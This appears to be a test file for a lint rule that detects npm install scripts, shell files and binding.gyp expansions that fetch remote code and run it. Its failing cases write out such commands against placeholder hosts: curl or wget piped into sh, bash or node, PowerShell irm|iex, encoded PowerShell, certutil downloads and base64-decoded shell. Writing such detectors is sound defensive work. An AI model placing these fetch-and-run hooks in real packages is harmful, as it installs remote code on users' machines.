import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

const pkg = (scripts: Record<string, string>) => ({ name: 'p', version: '1.0.0', scripts });

testRule(rule, {
  valid: [
    { name: 'node-gyp rebuild', code: '', manifest: pkg({ install: 'node-gyp rebuild' }) },
    { name: 'husky', code: '', manifest: pkg({ prepare: 'husky install' }) },
    { name: 'curl|sh in a non-install script', code: '', manifest: pkg({ test: 'curl -fsSL https://x.example.invalid | sh', build: 'tsc' }) },
    { name: 'curl to tar is a download, not an interpreter', code: '', manifest: pkg({ postinstall: 'curl -sL https://x.example.invalid/a.tgz | tar xz' }) },
    { name: 'echoing install instructions', code: '', manifest: pkg({ postinstall: 'echo "Run: npm i -g tool"' }) },
  ],
  invalid: [
    { name: 'curl | bash', code: '', manifest: pkg({ postinstall: 'curl -fsSL https://x.example.invalid/i.sh | bash' }), errors: [{ message: /^postinstall pipes a download into an interpreter: curl -fsSL/, line: 1 }] },
    { name: 'wget -O- | sh in preinstall', code: '', manifest: pkg({ preinstall: 'wget -qO- http://198.51.100.1/x | sh' }), errors: [{ message: /preinstall pipes a download/ }] },
    { name: 'bash -c "$(curl …)"', code: '', manifest: pkg({ install: 'bash -c "$(curl -fsSL https://x.example.invalid/i)"' }), errors: [{ message: /runs the output of a download as a script/ }] },
    { name: 'irm | iex', code: '', manifest: pkg({ preinstall: 'powershell -c "irm https://x.example.invalid/i.ps1 | iex"' }), errors: [{ message: /Invoke-Expression/ }] },
    { name: 'powershell -enc', code: '', manifest: pkg({ preinstall: 'powershell -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABwAGwAYQBjAGUAaABvAGwAZABlAHIA' }), errors: [{ message: /base64-encoded PowerShell/ }] },
    { name: 'certutil -urlcache', code: '', manifest: pkg({ postinstall: 'certutil -urlcache -split -f http://198.51.100.2/a.exe a.exe' }), errors: [{ message: /certutil -urlcache/ }] },
    { name: 'base64 -d | sh', code: '', manifest: pkg({ postinstall: 'echo ZWNobyBwbGFjZWhvbGRlcgo= | base64 -d | sh' }), errors: [{ message: /decodes a blob and pipes it into an interpreter/ }] },
    { name: 'Bun installer', code: '', manifest: pkg({ preinstall: 'curl -fsSL https://bun.sh/install -o i.sh' }), errors: [{ message: /installs the Bun runtime/ }] },
    { name: 'through npm run', code: '', manifest: pkg({ postinstall: 'npm run setup', setup: 'curl -s https://x.example.invalid | sh' }), errors: [{ message: /^postinstall -> npm run setup pipes a download/ }] },
    { name: 'prepare for a git dependency', code: '', manifest: pkg({ prepare: 'wget -qO- https://x.example.invalid/p | node' }), errors: [{ message: /^prepare pipes/ }] },
    {
      name: 'a shell file run by the install script',
      files: { 'scripts/i.sh': '#!/bin/sh\necho hi\ncurl -s https://x.example.invalid/p | sh\n' },
      manifest: pkg({ postinstall: 'sh scripts/i.sh' }),
      errors: [{ message: /postinstall -> scripts\/i\.sh pipes a download/, line: 3 }],
    },
    {
      name: 'binding.gyp command expansion',
      files: { 'binding.gyp': "{ 'targets': [ { 'target_name': 'a', 'libraries': [ '<!(curl -s https://x.example.invalid/p | sh)' ] } ] }" },
      manifest: { name: 'p', version: '1.0.0', gypfile: true },
      errors: [{ message: /binding\.gyp command expansion \(run by node-gyp at install\) pipes a download/ }],
    },
  ],
});

testSamples(rule, join(import.meta.dirname, 'samples'));
